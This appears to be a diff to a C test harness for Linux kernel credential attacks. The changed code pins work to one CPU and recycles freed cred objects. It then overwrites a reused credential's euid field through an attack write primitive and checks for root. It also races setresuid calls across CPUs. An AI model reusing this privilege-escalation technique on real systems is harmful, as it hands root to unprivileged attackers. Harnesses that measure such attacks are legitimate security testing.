@@ -203,8 +203,17 @@ static enum verdict other_process(void) {
   return verdict;
 }
 
-// Credentials that were freed, with neighbours that keep their page in use.
+static void stay_on(int cpu) {
+  cpu_set_t cpus;
+  CPU_ZERO(&cpus);
+  CPU_SET(cpu, &cpus);
+  must(sched_setaffinity(0, sizeof(cpus), &cpus) == 0);
+}
+
+// Credentials that were freed, with neighbours that keep their page in use. On
+// one CPU: each keeps free objects of its own.
 static uint64_t freed_cred(void) {
+  stay_on(0);
   struct victim v[5];
   for (int i = 0; i < 5; ++i)
     v[i] = start_victim();
@@ -228,16 +237,18 @@ static enum verdict free_list(void) {
   return judge(&w, w.done == 1);
 }
 
-// The pointer is old, and its object is another process's by now.
+// The pointer is old, and its object belongs to somebody by now.
 static enum verdict stale_reused(void) {
   uint64_t old = freed_cred();
-  for (int i = 0; i < 200; ++i) {
-    struct victim v = start_victim();
-    if (v.cred != old)
-      continue; // keep it, so that the next one gets another object
+  for (int i = 0; i < 20000; ++i) {
+    must(setresuid(USER, USER, 0) == 0);
+    if (own(0) != old) {
+      must(setresuid(0, 0, 0) == 0);
+      continue;
+    }
     struct attack_write w = {.address = old + layout.euid};
     write_from(ATTACK_THREAD, ATTACK_CRED, &w);
-    return judge(&w, victim_is_root(&v));
+    return judge(&w, is_root());
   }
   return NOT_POSSIBLE;
 }
@@ -251,16 +262,11 @@ static enum verdict race(bool same_cpu) {
   must(wrong != MAP_FAILED);
   if (!same_cpu && layout.cpus < 2)
     return NOT_POSSIBLE;
-  cpu_set_t cpus;
-  CPU_ZERO(&cpus);
-  CPU_SET(0, &cpus);
-  must(sched_setaffinity(0, sizeof(cpus), &cpus) == 0);
+  stay_on(0);
   pid_t switcher = fork();
   must(switcher >= 0);
   if (switcher == 0) {
-    CPU_ZERO(&cpus);
-    CPU_SET(same_cpu ? 0 : 1, &cpus);
-    must(sched_setaffinity(0, sizeof(cpus), &cpus) == 0);
+    stay_on(same_cpu ? 0 : 1);
     for (;;) {
       if (setresuid(USER, USER, 0) != 0 || geteuid() != USER)
         ++*wrong;
